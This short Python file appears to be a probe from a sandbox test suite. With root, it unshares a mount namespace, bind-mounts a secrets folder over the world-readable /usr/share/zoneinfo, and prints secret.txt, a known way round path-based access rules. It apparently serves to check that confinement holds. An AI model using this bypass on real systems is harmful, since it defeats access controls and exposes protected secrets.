# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Bind the secret's folder over one that may be read, in a mount namespace of one's own.

Known as a way round path-based rules; Landlock forbids mounts for that reason.
"""

# act: read
# needs: root

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, MS_BIND, MS_REC, MS_PRIVATE = 0x20000, 0x1000, 0x4000, 0x40000
OPEN_TO_ALL = b'/usr/share/zoneinfo'
print(libc.unshare(CLONE_NEWNS), libc.mount(None, b'/', None, MS_REC | MS_PRIVATE, None),
      libc.mount(SECRETS.encode(), OPEN_TO_ALL, None, MS_BIND, None))
print(open('/usr/share/zoneinfo/secret.txt').read())
